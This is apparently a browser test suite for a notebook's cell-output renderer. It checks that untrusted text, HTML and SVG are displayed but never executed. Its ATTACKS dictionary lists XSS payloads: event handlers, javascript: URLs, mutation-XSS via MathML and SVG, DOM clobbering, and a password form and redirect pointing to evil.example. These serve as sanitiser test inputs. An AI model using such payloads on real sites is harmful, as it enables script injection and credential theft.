"""What cells put out, in a real browser: a stranger's text and markup are shown, and nothing of them runs."""

import pytest
from playwright.sync_api import expect

pytestmark = pytest.mark.browser
SHOW = """async (outputs) => {
  const { Outputs } = await import("/static/js/notebook/outputs.js");
  const element = document.querySelector("#cell-add [data-outputs]");
  window.shown ??= new Outputs(element, { name: "add", onLine: (line) => { element.dataset.line = line; } });
  for (const output of outputs) window.shown.add(output);
}"""


@pytest.fixture
def show(browser_page, exercise):
    """Put outputs into the first cell; returns the element that has them."""
    browser_page.goto("/exercises/add/")
    expect(browser_page.locator("html[data-notebook-ready]")).to_be_attached()

    def show(*outputs):
        browser_page.evaluate(SHOW, list(outputs))
        return browser_page.locator("#cell-add [data-outputs]")

    return show


def stream(text, name="stdout"):
    return {"output_type": "stream", "name": name, "text": text}


def display(kind="display_data", **data):
    named = {name.replace("_", "/"): value for name, value in data.items()}
    return {"output_type": kind, "data": named, "metadata": {}, "transient": {"display_id": "d"}}


def test_text_goes_on_where_it_stopped(show):
    out = show(stream("a"), stream("b\n<b>not bold</b>\n"), stream("\x1b[31mred"), stream(" still\x1b[0m plain"))
    expect(out.locator("pre")).to_have_count(1)
    assert out.locator("pre").inner_text() == "ab\n<b>not bold</b>\nred still plain"
    assert out.locator(".ansi-red").all_inner_texts() == ["red still"]


def test_a_progress_bar_is_one_line(show):
    bar = "".join(f"\r{done}/3 [{'=' * done:3}]" for done in range(4))
    assert show(stream(bar), stream("\b\b\b\b\r3/3 ready\n")).locator("pre").inner_text().strip() == "3/3 ready"


def test_control_characters_and_reversed_writing_are_left_out(show):
    assert show(stream("a\u202eb\x07\x00c\x1b]0;title\x07d")).locator("pre").inner_text() == "abcd"


def test_markup_lives_in_a_frame_without_scripts(show, browser_page):
    html = "<table><tr style='color:red' onclick='x()'><td>cell</td></tr></table><script>parent.hacked = 1</script>"
    out = show(display(text_html=html + "<img src=x onerror='parent.hacked = 2'>"))
    frame = out.locator("iframe")
    assert frame.get_attribute("sandbox") == "allow-same-origin"
    expect(frame.content_frame.get_by_text("cell")).to_be_visible()
    assert browser_page.evaluate("window.hacked") is None


def markup_of(show, html):
    """The body of the frame that shows the markup."""
    out = show(display(text_html=f"<p>before it</p>{html}"))
    body = out.locator("iframe").content_frame.locator("body")
    expect(body.get_by_text("before it")).to_be_visible()
    return body


ATTACKS = {
    "a script": "<script>parent.hacked = 1</script><scr<script>ipt>parent.hacked = 1</script>",
    "handlers": "<img src=x onerror=parent.hacked=1><details open ontoggle=parent.hacked=1>x</details><p OnClick='x'>y",
    "an address that runs": "<a href='javascript:parent.hacked=1'>a</a><a href='java&#9;script:parent.hacked=1'>b</a>",
    "a page in the page": "<iframe srcdoc='<p>x</p>'></iframe><object data='/'></object><embed src='/'>",
    "svg": "<svg onload=parent.hacked=1><style><img src=x onerror=parent.hacked=1></style><use href='#x'/></svg>",
    "mathml that changes when it is read again": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=parent.hacked=1&gt;'>",
    "svg that changes when it is read again": "<svg></p><style><a id='</style><img src=1 onerror=parent.hacked=1>'>",
    "a template": "<template><img src=x onerror=parent.hacked=1></template><noscript><p title='</noscript><img src=x onerror=parent.hacked=1>'>",
    "styles that cover the page": "<style>body{position:fixed;inset:0}</style><div style='position:fixed;inset:0'>over</div><link rel=stylesheet href=/x.css>",
    "a form": "<form action='https://evil.example/'><label for=p>Password</label><input id=p name=password><button>Go</button></form>",
    "names that hide others": "<a id=body name=cookie>x</a><img name=getElementById><form id=forms></form>",
    "another base": "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example/'>",
}  # fmt: skip
FORBIDDEN = "script, style, svg, math, template, iframe, object, embed, form, input, button, label, base, meta, link"


@pytest.mark.parametrize("markup", ATTACKS.values(), ids=ATTACKS.keys())
def test_of_markup_only_what_is_harmless_stays(show, browser_page, markup):
    body = markup_of(show, markup)
    expect(body.locator(FORBIDDEN)).to_have_count(0)
    attributes = body.evaluate("body => [...body.querySelectorAll('*')].flatMap((each) => [...each.attributes])"
                               ".map(({ name, value }) => [name, value])")  # fmt: skip
    assert not [name for name, _ in attributes if name.startswith("on") or name in ("style", "id", "name", "for")]
    assert not [value for name, value in attributes if name in ("href", "src") and "script:" in value]
    assert browser_page.evaluate("window.hacked") is None
    assert len(browser_page.frames) == 2  # the page and the output


def test_a_table_of_pandas_stays_a_table(show):
    html = """<div><style scoped>.dataframe tbody tr th { vertical-align: top; }</style><table border="1" class="dataframe">
      <thead><tr style="text-align: right;"><th></th><th>style = on</th></tr></thead>
      <tbody><tr><th>0</th><td><a href="https://example.org/">a &lt;b&gt;</a></td></tr></tbody></table></div>"""
    body = markup_of(show, html)
    assert body.get_by_role("columnheader").all_inner_texts()[-1] == "style = on"
    expect(body.get_by_role("link", name="a <b>")).to_have_attribute("href", "https://example.org/")
    assert body.locator("table").get_attribute("class") == "dataframe"


def test_a_drawing_is_an_image(show, browser_page):
    svg = "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'><script>parent.hacked = 1</script></svg>"
    out = show(display(image_svg=svg) | {"data": {"image/svg+xml": svg, "text/plain": "a red dot"}})
    expect(out.get_by_role("img")).to_have_attribute("alt", "Picture made by add: a red dot")
    assert browser_page.evaluate("window.hacked") is None


def test_clearing_and_updating(show):
    out = show(stream("old\n"), {"output_type": "clear_output", "wait": True})
    expect(out).to_have_text("old")  # until something new comes
    show(display(text_plain="1 %"))
    expect(out).to_have_text("1 %")
    show(display("update_display_data", text_plain="100 %"))
    expect(out).to_have_text("100 %")
    show({"output_type": "clear_output", "wait": False})
    expect(out).to_be_hidden()


def test_an_error_points_to_its_line(show):
    error = {
        "output_type": "error",
        "ename": "ValueError",
        "evalue": "<i>no</i>",
        "traceback": ["\x1b[31mx\x1b[0m"] * 20,
    }
    out = show(error | {"line": 2})
    expect(out.locator(".out-error-head")).to_contain_text("ValueError: <i>no</i>")
    assert out.get_attribute("data-line") == "2"
    expect(out.locator("details pre")).to_be_hidden()  # a long traceback is folded
